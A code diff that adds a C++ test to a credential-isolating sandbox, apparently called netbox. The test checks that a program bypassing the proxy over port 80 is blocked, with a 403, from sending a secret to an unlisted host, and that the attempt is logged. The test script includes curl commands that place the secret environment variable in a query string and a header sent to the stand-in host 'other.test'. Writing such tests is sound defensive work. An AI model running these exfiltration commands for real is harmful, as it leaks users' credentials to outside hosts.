@@ -164,5 +164,36 @@ TEST(LaunchCredentials, ASharedProxyGetsTheSecretOverItsControlSocket) {
   expect_nothing_left(subnet);
 }
 
+// A program that ignores the proxy variables reaches port 80 through the captured door;
+// its requests are checked like the proxy door's (issue 22): the placeholder in the query
+// or a header to a host not listed for the credential is refused 403 and recorded, and
+// nothing reaches the host.
+TEST(LaunchCredentials, ThePlaceholderOverCapturedPort80IsRefusedAndRecorded) {
+  NETBOX_REQUIRE_ROOT();
+  const auto subnet = test_subnet(117);
+  CredentialLaunch s;
+  auto j = nlohmann::json::parse(file_bytes(s.policy));
+  j["ports"].push_back(80);
+  const auto policy = s.dir.write("policy80.json", j.dump());
+  SecretInEnvironment env;
+  const auto db = s.dir.path() / "audit.db";
+  const std::string curl = std::string(kCurl) + " -s -o /dev/null --noproxy '*' -w '%{http_code}\\n' ";
+  const std::string script = curl + "\"http://other.test/q?k=$" + kVar + "\"; " + curl + "-H \"X-Key: $" + kVar +
+                             "\" http://other.test/h";
+  auto r = launch(subnet, {"--policy", policy.string(), "--audit-db", db.string(), "--ca-dir",
+                           (s.dir.path() / "ca").string(), "--upstream-ca", s.tls.ca_pem().string(), "--", kSh, "-c",
+                           script});
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  EXPECT_EQ(r.out, "403\n403\n") << r.err;
+  auto ev = query(db, "SELECT detail FROM events WHERE kind = 'exfiltration_attempt' ORDER BY id");
+  ASSERT_EQ(ev.size(), 2u);
+  EXPECT_THAT(ev[0][0], HasSubstr("\"where\":\"the query\""));
+  EXPECT_THAT(ev[1][0], HasSubstr("\"where\":\"the header X-Key\""));
+  auto rows = query(db, "SELECT host, port, decision, status FROM requests WHERE rule = 'credentials.openai'");
+  ASSERT_EQ(rows.size(), 2u);
+  EXPECT_EQ(rows[0], (std::vector<std::string>{"other.test", "80", "deny", "403"}));
+  expect_nothing_left(subnet);
+}
+
 }  // namespace
 }  // namespace netbox::launch_test
